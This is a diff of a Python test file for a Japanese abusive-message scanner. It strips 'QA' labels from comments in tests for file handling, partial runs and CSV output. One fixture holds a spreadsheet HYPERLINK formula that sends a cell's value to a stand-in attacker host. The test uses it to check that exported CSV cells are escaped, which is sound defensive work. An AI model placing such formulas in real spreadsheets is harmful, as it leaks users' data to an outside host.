@@ -115,7 +115,7 @@ def test_predict_conversation_adds_thread_signals(clf):
 
 
 def test_a_file_without_a_text_column_does_not_stop_the_run(tmp_path, clf):
-    # QA F7: three files, the middle one without a text column; the run used to stop with nothing written.
+    # Three files, the middle one without a text column; the run used to stop with nothing written.
     first, bad, last = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "c.jsonl"
     first.write_text("id,本文\n1,返金しろ\n2,まだか\n", encoding="utf-8")
     bad.write_text("id,free_note\n1,こんにちは\n", encoding="utf-8")
@@ -146,7 +146,7 @@ def test_results_read_before_an_input_fails_are_kept(clf):
     assert [r["id"] for r in got] == ["a", "b"] and all(r["status"] == "ok" for r in got)
 
 
-# -- QA F2: an output that is one of the inputs must not truncate it -----------------------------------------------
+# -- an output that is one of the inputs must not truncate it -----------------------------------------------
 def _same_file_layouts(tmp_path):
     """(inputs, output) pairs where writing the output would destroy an input before it is read."""
     inbox = tmp_path / "inbox.csv"
@@ -206,7 +206,7 @@ def test_a_run_that_stops_part_way_leaves_the_earlier_results_in_place(tmp_path,
     assert not (tmp_path / "results.jsonl.partial").exists()
 
 
-# -- QA F7: CSV cells that Excel would run as formulas -------------------------------------------------------------
+# -- CSV cells that Excel would run as formulas -------------------------------------------------------------
 FORMULA_CELLS = [  # (value written, cell read back with the csv module)
     ('=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")',
      '\'=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")'),
@@ -262,7 +262,7 @@ def test_scanned_csv_has_no_formula_cells(tmp_path, clf):
     assert all(float(r["score_abuse"]) >= 0 for r in rows)
 
 
-# -- QA F8: why a conversation was flagged, in the CSV too ---------------------------------------------------------
+# -- why a conversation was flagged, in the CSV too ---------------------------------------------------------
 def test_csv_signals_and_message_ids_columns_are_appended(tmp_path):
     from kasuhara_nlp.scan import ResultWriter
 
